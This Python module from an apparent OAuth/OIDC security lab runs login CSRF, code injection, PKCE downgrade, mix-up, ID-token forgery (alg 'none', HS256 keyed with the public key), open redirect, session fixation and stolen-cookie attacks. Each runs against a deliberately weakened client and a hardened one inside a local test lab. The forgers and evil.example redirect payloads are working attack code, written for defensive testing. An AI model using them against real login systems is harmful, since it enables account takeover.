"""The attacks of notebooks 10 and 11, each run against the naive client (the blog's recipe,
``recipe.py``) and against this project's login module (``lab.OurApp``). Every function
returns an ``Outcome``; the notebooks show them, ``tests/notebooks/test_attacks.py`` asserts them.

    login CSRF             login_csrf_naive, login_csrf_ours
    code injection         code_injection_naive, code_injection_ours
    PKCE downgrade         downgrade_naive, downgrade_ours
    mix-up                 mix_up_naive, mix_up_ours
    ID-token attacks       token_naive, token_ours (kinds: TOKEN_ATTACKS)
    open redirect          open_redirect_naive, open_redirect_ours
    session fixation       fixation_naive, fixation_ours
    cookie after logout    stolen_cookie_naive, streamlit_cookie_after_logout, stolen_cookie_ours
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Callable

from joserfc import jws
from joserfc.jwk import KeySet
from streamlit.web.server.starlette.starlette_app_utils import create_signed_value, decode_signed_value
from streamlit.web.server.starlette.starlette_server_config import (
    AUTH_COOKIE_MAX_AGE_SECONDS,
    USER_COOKIE_NAME,
)

from streamlit_authlib_login._routes import csrf_token
from devidp.journal import fingerprint
from devidp.personas import BY_USERNAME

from .lab import (
    APP_URL,
    ATTACKER,
    EVIL_CALLBACK,
    EVIL_CLIENT,
    OUR_CLIENT,
    OUR_URL,
    RECIPE_AT_ATTACKER,
    VICTIM,
    BackChannel,
    Creds,
    Lab,
    OurApp,
    Outcome,
    Person,
    Token,
    query,
    start_lab,
    stop_lab,
    summary,
    with_query,
)
from .recipe import REMOVABLE, Registration, hmac_key, recipe_app

__all__ = ["REMOVABLE", "recipe_app", "start_lab", "stop_lab", "summary"]  # and the attacks below

OPEN_REDIRECTS = ("https://evil.example/phish", "//evil.example/phish", "/\\evil.example/phish")


def _recipe(removed: str | None, *, extra: str = "") -> str:
    return (
        f"the recipe{extra}, without: {REMOVABLE[removed]}" if removed else f"the recipe{extra}, as written"
    )


def _naive(attack: str, removed: str | None, succeeded: bool, result: str, error: object = None) -> Outcome:
    refused_by = f"{type(error).__name__}: {error}" if isinstance(error, Exception) else ""
    return Outcome(attack, _recipe(removed), succeeded, result, check="" if succeeded else refused_by)


def _honest(lab: Lab) -> dict[str, Registration]:
    return {"google": Registration(lab.honest.url)}


# --- login CSRF: RFC 9700 §4.7 -------------------------------------------------------------------
def login_csrf_naive(lab: Lab, removed: str | None = "state") -> Outcome:
    app = recipe_app(_honest(lab), removed=removed)
    attacker, victim = Person(app), Person(app)
    forged = attacker.authorize(attacker.start(), ATTACKER)  # the attacker's own callback, unused
    error = victim.deliver(forged)  # ... sent to the victim (a link, an <img>, an auto-submitted form)
    who = victim.whoami()
    return _naive(
        "login CSRF", removed, who == ATTACKER, f"the victim's browser is logged in as {who}", error
    )


async def login_csrf_ours(lab: Lab) -> Outcome:
    async with OurApp(lab) as ours:
        attacker, victim = ours.browser(), ours.browser()
        forged = await ours.authorize(attacker, await ours.start(attacker), ATTACKER)
        location = await ours.deliver(victim, forged)
        who = await ours.whoami(victim)
        return ours.outcome(
            "login CSRF", who == ATTACKER, f"the victim's browser is logged in as {who}", location
        )


# --- authorization code injection without PKCE: RFC 9700 §4.5, RFC 7636 §1 ---------------------------
def code_injection_naive(lab: Lab, removed: str | None = "nonce") -> Outcome:
    app = recipe_app(_honest(lab), removed=removed)
    victim, attacker = Person(app), Person(app)
    stolen = query(victim.authorize(victim.start(), VICTIM))["code"]  # leaked on its way back
    own = attacker.authorize(attacker.start(), ATTACKER)  # the attacker's own login, its own state
    error = attacker.deliver(with_query(own, code=stolen))
    who = attacker.whoami()
    return _naive(
        "code injection", removed, who == VICTIM, f"the attacker's browser is logged in as {who}", error
    )


async def code_injection_ours(lab: Lab) -> Outcome:
    async with OurApp(lab) as ours:
        victim, attacker = ours.browser(), ours.browser()
        stolen = query(await ours.authorize(victim, await ours.start(victim), VICTIM))["code"]
        own = await ours.authorize(attacker, await ours.start(attacker), ATTACKER)
        location = await ours.deliver(attacker, with_query(own, code=stolen))
        who = await ours.whoami(attacker)
        return ours.outcome(
            "code injection", who == VICTIM, f"the attacker's browser is logged in as {who}", location
        )


# --- PKCE downgrade: RFC 9700 §4.8 -------------------------------------------------------------
def _stripped(url: str) -> str:
    return with_query(url, drop=("code_challenge", "code_challenge_method"))


def downgrade_naive(lab: Lab, provider_checks: bool = False) -> Outcome:
    """The recipe with notebook 01's PKCE fix, at a provider that does not refuse a verifier
    for a code issued without a challenge (the ``pkce_downgrade`` fault) unless ``provider_checks``."""
    app = recipe_app(_honest(lab), pkce=True)
    attacker, victim = Person(app), Person(app)
    with lab.fault("pkce_downgrade") if not provider_checks else _nothing():
        stolen = victim.authorize(_stripped(attacker.start()), VICTIM)  # the victim opens the attacker's link
        error = attacker.deliver(stolen)  # the code, intercepted, comes back to the attacker's browser
    who = attacker.whoami()
    client = "the recipe with PKCE (notebook 01's fix), at a provider " + (
        "that enforces RFC 9700 §4.8.2" if provider_checks else "without RFC 9700 §4.8.2's check"
    )
    refused_by = f"{type(error).__name__}: {error}" if isinstance(error, Exception) else ""
    result = f"the attacker's browser is logged in as {who}"
    return Outcome("PKCE downgrade", client, who == VICTIM, result, check="" if who == VICTIM else refused_by)


async def downgrade_ours(lab: Lab, provider_checks: bool = True) -> Outcome:
    async with OurApp(lab) as ours:
        attacker, victim = ours.browser(), ours.browser()
        with lab.fault("pkce_downgrade") if not provider_checks else _nothing():
            stolen = await ours.authorize(victim, _stripped(await ours.start(attacker)), VICTIM)
            location = await ours.deliver(attacker, stolen)
        who = await ours.whoami(attacker)
        return ours.outcome(
            "PKCE downgrade", who == VICTIM, f"the attacker's browser is logged in as {who}", location
        )


class _nothing:
    def __enter__(self) -> None:
        return None

    def __exit__(self, *exc: object) -> None:
        return None


# --- mix-up: RFC 9700 §4.4, RFC 9207 -------------------------------------------------------------
def attackers_redirect(request_url: str, honest_url: str, client_id: str, redirect_uri: str) -> str:
    """The attacker's provider, given an authorization request, sends the browser on to the honest
    provider with the app's client id there, keeping the request's state, nonce and PKCE."""
    return with_query(
        request_url.replace(request_url.split("/authorize")[0], honest_url, 1),
        client_id=client_id,
        redirect_uri=redirect_uri,
    )


def _leaked(lab: Lab, code: str) -> bool:
    """Whether the attacker's token endpoint received ``code`` (its journal keeps fingerprints)."""
    return any(
        e.path == "/token" and e.code_fingerprint == fingerprint(code)
        for e in lab.attacker.server.journal.entries()
    )


def _leak_result(leaked: bool) -> str:
    verb = "reached" if leaked else "did not reach"
    return f"the honest provider's code {verb} the attacker's token endpoint"


def mix_up_naive(lab: Lab) -> Outcome:
    providers = {
        "honest": Registration(lab.honest.url),
        "attacker": Registration(lab.attacker.url, RECIPE_AT_ATTACKER, "recipe-secret"),
    }
    victim = Person(recipe_app(providers))
    at_attacker = victim.start(
        "/login/attacker"
    )  # the victim picks the attacker's provider, or is sent there
    callback = victim.authorize(
        attackers_redirect(at_attacker, lab.honest.url, "demo-web", f"{APP_URL}/authorize"), VICTIM
    )
    error = victim.deliver(callback)  # the recipe sends the honest provider's code to the attacker's
    leaked = _leaked(lab, query(callback)["code"])
    result = (
        f"the honest provider's code {'reached' if leaked else 'did not reach'} the attacker's token endpoint"
    )
    outcome = _naive("mix-up", None, leaked, result, error)
    return Outcome(
        outcome.attack,
        _recipe(None, extra=" with two providers on its one callback"),
        leaked,
        result,
        outcome.check,
    )


async def mix_up_ours(lab: Lab, shared_callback: bool = False) -> Outcome:
    """``shared_callback``: the app's registration at the honest provider also lists the attacker's
    callback URI, so the response lands where the pending login expects it: only `iss` is left."""
    callbacks = ["honest", "attacker"] if shared_callback else ["honest"]
    lab.register(
        lab.honest,
        OUR_CLIENT,
        lab.our_secrets["honest"],
        *(f"{OUR_URL}/auth/callback/{n}" for n in callbacks),
    )
    try:
        async with OurApp(lab) as ours:
            victim = ours.browser()
            at_attacker = await ours.start(victim, "attacker")
            to = f"{OUR_URL}/auth/callback/{callbacks[-1]}"
            callback = await ours.authorize(
                victim, attackers_redirect(at_attacker, lab.honest.url, OUR_CLIENT, to), VICTIM
            )
            location = await ours.deliver(victim, callback)
            leaked = _leaked(lab, query(callback)["code"])
            result = _leak_result(leaked)
            return ours.outcome(
                "mix-up" + (" (shared callback)" if shared_callback else ""), leaked, result, location
            )
    finally:
        lab.register(lab.honest, OUR_CLIENT, lab.our_secrets["honest"], f"{OUR_URL}/auth/callback/honest")


# --- ID tokens: OIDC Core §3.1.3.7, RFC 8725 ----------------------------------------------------------
def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _claims(id_token: str) -> dict[str, object]:
    body = id_token.split(".")[1]
    return dict(json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4))))


def as_victim(claims: dict[str, object]) -> dict[str, object]:
    """The attacker's genuine claims, made the victim's (a `sub` is no secret), `at_hash` dropped."""
    victim = BY_USERNAME[VICTIM]
    forged = {k: v for k, v in claims.items() if k != "at_hash"}
    return forged | {"sub": victim.sub, "name": victim.name, "email": victim.email}


def forge_none(claims: dict[str, object]) -> str:
    return f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{_b64(json.dumps(claims).encode())}."


def forge_hs256(claims: dict[str, object], jwks: dict[str, object]) -> str:
    """HS256, keyed with the provider's PUBLIC key (from its JWKS) as PEM bytes."""
    signing_input = (
        f"{_b64(json.dumps({'alg': 'HS256', 'typ': 'JWT'}).encode())}.{_b64(json.dumps(claims).encode())}"
    )
    mac = hmac.new(hmac_key(KeySet.import_key_set(jwks)), signing_input.encode(), hashlib.sha256).digest()  # type: ignore[arg-type]
    return f"{signing_input}.{_b64(mac)}"


def mint_multi_audience(lab: Lab, claims: dict[str, object], client_id: str) -> str:
    """What a provider issues when another client asks for an ID token also meant for ``client_id``
    (Google's cross-client identity): signed with the honest provider's own key, ``azp`` the other."""
    key = lab.honest.server.keys.active
    header = {"alg": "RS256", "kid": key.kid, "typ": "JWT"}
    payload = json.dumps(claims | {"aud": [client_id, EVIL_CLIENT], "azp": EVIL_CLIENT})
    return jws.serialize_compact(header, payload, key)


# kind: (what the back channel answers with, the recipe's check that would stop it)
TOKEN_ATTACKS: dict[str, str] = {
    "replay": "nonce",
    "aud": "azp",
    "azp": "azp",
    "alg_none": "alg",
    "hs256": "alg",
}


def _answer(kind: str, lab: Lab, creds: Creds, nonce: str) -> Callable[[Token], Token]:
    """What the attacker's back channel sends instead of the genuine token response."""
    evil = Creds(EVIL_CLIENT, lab.evil_secret, EVIL_CALLBACK)
    if kind == "replay":  # the victim's earlier login to this very app, recorded
        earlier = lab.issue(creds, VICTIM, secrets.token_urlsafe(16))
        return lambda genuine: earlier
    if kind == "aud":  # the victim logged in to the attacker's own app, with the nonce the attacker chose
        other = lab.issue(evil, VICTIM, nonce)
        return lambda genuine: other
    jwks = lab.honest.server.keys.jwks()
    forge: dict[str, Callable[[dict[str, object]], str]] = {
        "azp": lambda c: mint_multi_audience(lab, c, creds.client_id),
        "alg_none": forge_none,
        "hs256": lambda c: forge_hs256(c, jwks),
    }
    return lambda genuine: genuine | {"id_token": forge[kind](as_victim(_claims(str(genuine["id_token"]))))}


def token_naive(lab: Lab, kind: str, removed: str | None = None) -> Outcome:
    """``removed`` defaults to the one check that stands in the way (``TOKEN_ATTACKS``)."""
    removed = TOKEN_ATTACKS[kind] if removed is None else (removed or None)
    channel = BackChannel()
    app = recipe_app(_honest(lab), removed=removed)
    channel.intercept(app)
    attacker = Person(app)
    url = attacker.start()
    callback = attacker.authorize(url, ATTACKER)
    channel.answer_next(
        _answer(kind, lab, Creds("demo-web", "demo-web-secret", f"{APP_URL}/authorize"), query(url)["nonce"])
    )
    error = attacker.deliver(callback)
    who = attacker.whoami()
    return _naive(
        f"ID token: {kind}", removed, who == VICTIM, f"the attacker's browser is logged in as {who}", error
    )


async def token_ours(lab: Lab, kind: str) -> Outcome:
    channel = BackChannel()
    async with OurApp(lab, channel=channel) as ours:
        attacker = ours.browser()
        url = await ours.start(attacker)
        callback = await ours.authorize(attacker, url, ATTACKER)
        channel.answer_next(_answer(kind, lab, lab.our_creds(), query(url)["nonce"]))
        location = await ours.deliver(attacker, callback)
        who = await ours.whoami(attacker)
        return ours.outcome(
            f"ID token: {kind}", who == VICTIM, f"the attacker's browser is logged in as {who}", location
        )


# --- open redirect through next=: RFC 9700 §4.11 ------------------------------------------------------
def open_redirect_naive(
    lab: Lab, removed: str | None = "next", targets: tuple[str, ...] = OPEN_REDIRECTS
) -> Outcome:
    went = []
    for target in targets:
        victim = Person(recipe_app(_honest(lab), removed=removed))
        went.append(str(victim.deliver(victim.authorize(victim.start(f"/login?next={target}"), VICTIM))))
    off_site = [w for w in went if not w.startswith("/") or w.startswith("//") or "\\" in w]
    result = "after login the victim was sent to: " + ", ".join(went)
    return _naive("open redirect", removed, bool(off_site), result)


async def open_redirect_ours(lab: Lab, targets: tuple[str, ...] = OPEN_REDIRECTS) -> Outcome:
    async with OurApp(lab) as ours:
        went = []
        for target in targets:
            victim = ours.browser()
            url = await ours.start(victim, next_path=target)
            went.append(await ours.deliver(victim, await ours.authorize(victim, url, VICTIM)))
        off_site = [w for w in went if w != "/"]
        result = "after login the victim was sent to: " + ", ".join(went)
        return ours.outcome(
            "open redirect", bool(off_site), result, check="streamlit_authlib_login._core.flow.safe_next: same-origin paths only"
        )


# --- session fixation: OWASP ASVS V3.2.1 (RFC 9700 has no section on it) ---
def fixation_naive(lab: Lab, removed: str | None = "session_id") -> Outcome:
    app = recipe_app(_honest(lab), removed=removed, server_side_sessions=True)
    attacker, victim = Person(app), Person(app)
    attacker.app.get("/me", base_url=APP_URL)  # any visit gives the attacker a session id
    planted = attacker.app.get_cookie("session")
    victim.app.set_cookie("session", planted.value if planted else "")  # planted in the victim's browser
    victim.deliver(victim.authorize(victim.start(), VICTIM))
    who = attacker.whoami()
    return _naive(
        "session fixation", removed, who == VICTIM, f"the attacker's browser, with the planted id, is {who}"
    )


async def fixation_ours(lab: Lab) -> Outcome:
    async with OurApp(lab) as ours:
        attacker, victim = ours.browser(), ours.browser()
        await ours.deliver(attacker, await ours.authorize(attacker, await ours.start(attacker), ATTACKER))
        planted = ours.session_cookie(attacker)  # the attacker's own, logged-in session id
        ours.plant(victim, planted)
        await ours.deliver(victim, await ours.authorize(victim, await ours.start(victim), VICTIM))
        who = await ours.whoami(attacker)
        changed = ours.session_cookie(victim) != planted
        result = f"the attacker's browser, with the planted id, is {who}; the victim got a new id: {changed}"
        check = (
            "a new session id at every login, the one the browser brought deleted (streamlit_authlib_login/_routes/login.py, the callback)"
        )
        return ours.outcome("session fixation", who == VICTIM, result, check=check)


# --- a stolen session cookie, after logout: RFC 9700 §4.13 (refresh-token analogue); OWASP ASVS V3.3.1 ---
def stolen_cookie_naive(lab: Lab) -> Outcome:
    app = recipe_app(_honest(lab))
    victim, attacker = Person(app), Person(app)
    victim.deliver(victim.authorize(victim.start(), VICTIM))
    stolen = victim.app.get_cookie("session")
    victim.app.get("/logout", base_url=APP_URL)
    attacker.app.set_cookie("session", stolen.value if stolen else "")
    who = attacker.whoami()
    return _naive(
        "stolen cookie after logout", None, who == VICTIM, f"after the victim logged out, the copy is {who}"
    )


def streamlit_cookie_after_logout() -> Outcome:
    """Streamlit's ``st.login`` cookie, made and read by Streamlit's own functions: signed user info,
    30 days; ``st.logout`` deletes it from the browser that clicked, and nothing else exists to revoke."""
    secret = secrets.token_urlsafe(32)  # Streamlit's server.cookieSecret
    victim = BY_USERNAME[VICTIM]
    user = {"sub": victim.sub, "email": victim.email, "is_logged_in": True, "provider": "google"}
    stolen = create_signed_value(secret, USER_COOKIE_NAME, json.dumps(user))
    # st.logout: the victim's browser drops its cookie. The copy is untouched:
    decoded = decode_signed_value(secret, USER_COOKIE_NAME, stolen)
    who = BY_USERNAME[VICTIM].username if decoded and json.loads(decoded)["sub"] == victim.sub else None
    days = AUTH_COOKIE_MAX_AGE_SECONDS // 86400
    result = (
        f"after st.logout, the copied {USER_COOKIE_NAME} cookie still decodes as {who}, for up to {days} days"
    )
    return Outcome("stolen cookie after logout", "Streamlit's st.login cookie", who == VICTIM, result)


async def stolen_cookie_ours(lab: Lab) -> Outcome:
    async with OurApp(lab) as ours:
        victim, attacker = ours.browser(), ours.browser()
        await ours.deliver(victim, await ours.authorize(victim, await ours.start(victim), VICTIM))
        stolen = ours.session_cookie(victim)
        ours.plant(attacker, stolen)
        before = await ours.whoami(attacker)  # a cookie is a bearer credential: the theft works until...
        headers = {
            "x-csrf-token": csrf_token(ours.config.cookie_secret, stolen),
            "accept": "application/json",
        }
        await victim.post(f"{OUR_URL}/auth/logout", headers=headers)  # ...the victim logs out
        after = await ours.whoami(attacker)
        result = f"before the victim's logout the copy was {before}; after it, {after}"
        check = "the session lives on the server, and logout deletes it (SessionManager.delete)"
        return ours.outcome("stolen cookie after logout", after == VICTIM, result, check=check)
